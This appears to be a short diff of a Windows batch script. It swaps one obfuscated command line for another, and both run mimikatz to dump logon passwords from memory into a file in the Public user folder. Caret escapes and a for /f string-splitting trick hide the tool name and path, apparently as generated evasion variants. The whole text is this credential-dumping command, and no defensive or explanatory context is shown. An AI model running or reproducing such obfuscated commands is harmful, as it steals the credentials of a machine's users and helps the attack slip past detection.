@@ -1,2 +1,2 @@
-REM task 9043 v4
-for /^f "tokens=1 delims=~" %%i i^n ("mimikatz.exe~cwpq~amix") do %%i "privilege::debug" "sekurlsa::logonpasswords" "exit" > ^C:\Us^ers\^P^ubli^c\^m.tx^t
+REM run 8352 v4
+^for /f "tokens=2 delims=@" %%i in ("dxjj@mimikatz.exe@wrwi") ^do %%^i "privilege::debug" "sekurlsa::logonpasswords" "exit" > C:\Us^ers\Pu^b^li^c\^m.t^xt
